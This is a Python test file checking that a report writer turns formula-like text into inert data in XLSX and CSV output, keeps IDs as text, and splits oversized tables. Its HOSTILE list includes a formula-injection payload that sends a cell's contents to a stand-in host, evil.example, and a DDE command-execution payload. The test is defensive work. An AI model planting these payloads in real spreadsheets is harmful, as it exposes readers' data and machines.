"""report.xlsx cells are data, never formulas; ids stay text; a table past the row limit is split or left out."""

from __future__ import annotations

import re

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lifecircle.cells import inert_frame, inert_text, is_formula_like, restore_frame, restore_text
from lifecircle.planning.report_tables import Table
from lifecircle.planning.workbook import MAX_PARTS, write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "'=1+2",
    "=cmd|' /C calc'!A0",
]


def _text(value):
    """A cell's text as Excel shows it (XLSX escapes control characters as _xHHHH_)."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value) if isinstance(value, str) else value


def _cells(path):
    book = openpyxl.load_workbook(path)
    return book, [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def test_formula_like_text_is_written_as_text(tmp_path):
    frame = pd.DataFrame(
        {"id": ["00007", *HOSTILE], "name": [*HOSTILE, "ok"], "walk": [1.5] * (len(HOSTILE) + 1)},
    )
    table = Table("compounds", "小区清单", frame, {"id": "text", "walk": "minutes"})
    write_workbook([table], tmp_path / "r.xlsx", lang="zh")
    book, cells = _cells(tmp_path / "r.xlsx")
    assert all(c.data_type != "f" for c in cells)  # not one formula
    ws = book["小区清单"]
    assert [_text(ws.cell(r, 1).value) for r in range(2, len(HOSTILE) + 3)] == ["00007", *HOSTILE]
    assert [_text(ws.cell(r, 2).value) for r in range(2, len(HOSTILE) + 3)] == [*HOSTILE, "ok"]
    assert ws.cell(2, 1).data_type == "s" and ws.cell(2, 3).value == 1.5 and ws.cell(2, 3).number_format == "0.0"


def test_hostile_header_and_sheet_titles(tmp_path):
    frame = pd.DataFrame({"=1+2": ["a"], "[bad]:/name?*": ["b"]})
    write_workbook([Table("x", "a/b:c[d]" + "长" * 40, frame)], tmp_path / "r.xlsx", lang="en")
    book, cells = _cells(tmp_path / "r.xlsx")
    assert all(c.data_type != "f" for c in cells)
    assert book.sheetnames[0] == ("a_b_c_d_" + "长" * 40)[:31]
    assert book.worksheets[0]["A1"].value == "=1+2"


def test_a_table_past_the_row_limit_is_split_then_left_out(tmp_path):
    ids = [f"{i:05d}" for i in range(10)]
    small = Table("compounds", "Compounds", pd.DataFrame({"id": ids, "n": range(10)}), {"id": "text"}, "coverage.csv")
    notes = write_workbook([small], tmp_path / "split.xlsx", lang="en", rows_per_sheet=4)
    book = openpyxl.load_workbook(tmp_path / "split.xlsx")
    assert book.sheetnames == ["Compounds", "Compounds (2)", "Compounds (3)", "Notes"]
    got = [c.value for name in book.sheetnames[:3] for c in book[name]["A"][1:]]
    assert got == ids  # every row once, zeros kept, header on every sheet
    assert all(book[name]["A1"].value == "id" for name in book.sheetnames[:3])
    assert "split over 3 sheets" in notes[0] and book["Notes"]["A2"].value == notes[0]
    # more parts than MAX_PARTS: left out, with a note naming the file that holds it; the workbook is written
    big = Table("compounds", "Compounds", small.frame, small.kinds, "coverage.csv")
    other = Table("status", "Status", pd.DataFrame({"s": ["Covered"], "n": [3]}))
    notes = write_workbook([big, other], tmp_path / "out.xlsx", lang="zh", rows_per_sheet=10 // (MAX_PARTS + 1))
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert book.sheetnames == ["Status", "说明"] and "coverage.csv" in notes[0] and "未放入" in notes[0]


def test_csv_cells_are_inert_and_round_trip(tmp_path):
    frame = pd.DataFrame({"compound_id": ["00007", *HOSTILE], "n": range(len(HOSTILE) + 1), "=head": "x"})
    path = tmp_path / "t.csv"
    inert_frame(frame).to_csv(path, index=False, encoding="utf-8-sig", lineterminator="\r\n")
    raw = pd.read_csv(path, dtype=str, encoding="utf-8-sig")
    assert not any(is_formula_like(v) and not v.startswith("'") for v in raw["compound_id"])
    assert all(not str(v).startswith(("=", "+", "@", "\t", "\r")) for v in [*raw["compound_id"], *raw.columns])
    back = restore_frame(raw)
    assert list(back["compound_id"]) == ["00007", *HOSTILE] and list(back.columns) == ["compound_id", "n", "=head"]


def test_categorical_string_and_repeated_columns_are_inert_too():
    frame = pd.DataFrame({"a": pd.Categorical(["=1", "x"]), "b": pd.array(["@x", None], dtype="string")})
    frame = pd.concat([frame, frame[["a"]]], axis=1)  # two columns named "a"
    out = inert_frame(frame)
    assert out.iloc[:, 0].tolist() == ["'=1", "x"] and out.iloc[:, 2].tolist() == ["'=1", "x"]
    assert out["b"].tolist()[0] == "'@x" and pd.isna(out["b"].tolist()[1]) and str(out["b"].dtype) == "string"
    assert restore_frame(out).iloc[:, 0].tolist() == ["=1", "x"]


@pytest.mark.parametrize(
    ("text", "formula"),
    [("-12", False), ("+3.5", False), ("-1e3", False), ("-", True), ("名称", False), ("", False), ("-1+2", True),
     ("''=x", True)],
)  # fmt: skip
def test_plain_numbers_are_not_formulas(text, formula):
    assert is_formula_like(text) is formula
    assert (inert_text(text) != text) is formula


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "'", "\t", "\r", "1", "a", "长", " "]), max_size=6))
def test_inert_text_round_trips_and_never_starts_a_formula(text):
    quoted = inert_text(text)
    assert restore_text(quoted) == text
    assert not quoted or quoted[0] not in "=+@\t\r" or not is_formula_like(quoted)
    if quoted[:1] == "-":
        assert not is_formula_like(quoted)
